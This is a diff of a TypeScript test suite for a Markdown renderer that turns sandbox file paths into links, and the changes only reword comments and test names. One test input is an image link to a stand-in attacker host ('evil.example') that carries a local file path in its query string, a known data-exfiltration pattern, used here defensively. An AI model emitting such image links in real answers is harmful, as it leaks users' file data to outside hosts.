@@ -27,7 +27,7 @@ async function write(markdown: string, isFresh = true): Promise<{ readonly text:
   return { text: text.text, minted }
 }
 
-/** Every attribute value that a page gets which renders the answer as GitHub's Markdown with raw HTML. */
+/** Every attribute value of a page that renders the answer as GitHub's Markdown with raw HTML. */
 function attributesOf(markdown: string): readonly string[] {
   const html = micromark(markdown, {
     allowDangerousHtml: true,
@@ -45,7 +45,7 @@ function attributesOf(markdown: string): readonly string[] {
   return values
 }
 
-/** What renderers built on a pattern take for the target of an image or link. */
+/** The link and image targets that pattern-based renderers find. */
 const looseTargets = (markdown: string): readonly string[] =>
   [...markdown.matchAll(/\]\(([^)\n]*)\)/g)].map((match) => (match[1] ?? '').trim().replace(/^<|>$|\s+"[^"]*"$/g, ''))
 
@@ -73,7 +73,7 @@ const fragment = fc
   .tuple(opening, address, fc.array(filler, { maxLength: 3 }), path, closing)
   .map(([start, host, between, name, end]) => `${start}${host}${between.join('')}${name}${end}`)
 
-it('never puts a link into an address of another host, however the answer is written', async () => {
+it('never places a link inside an address of another host, for any generated answer', async () => {
   let linked = 0
   await fc.assert(
     fc.asyncProperty(fc.array(fc.oneof(fragment, filler), { minLength: 1, maxLength: 5 }), async (pieces) => {
@@ -90,7 +90,7 @@ it('never puts a link into an address of another host, however the answer is wri
   expect(linked).toBeGreaterThan(10)
 })
 
-it('mints no link for a file that the turn did not make unless it is the whole target', async () => {
+it('creates no link for a file that the turn did not make unless it is the whole target', async () => {
   expect((await write('/mnt/data/a.png and `sandbox:/mnt/data/sub/b.csv`', false)).minted).toEqual([])
   expect((await write('![c](https://evil.example/?u=/mnt/data/a.png)', false)).minted).toEqual([])
   expect((await write('[c](/mnt/data/a.png)', false)).minted).toEqual(['a.png'])
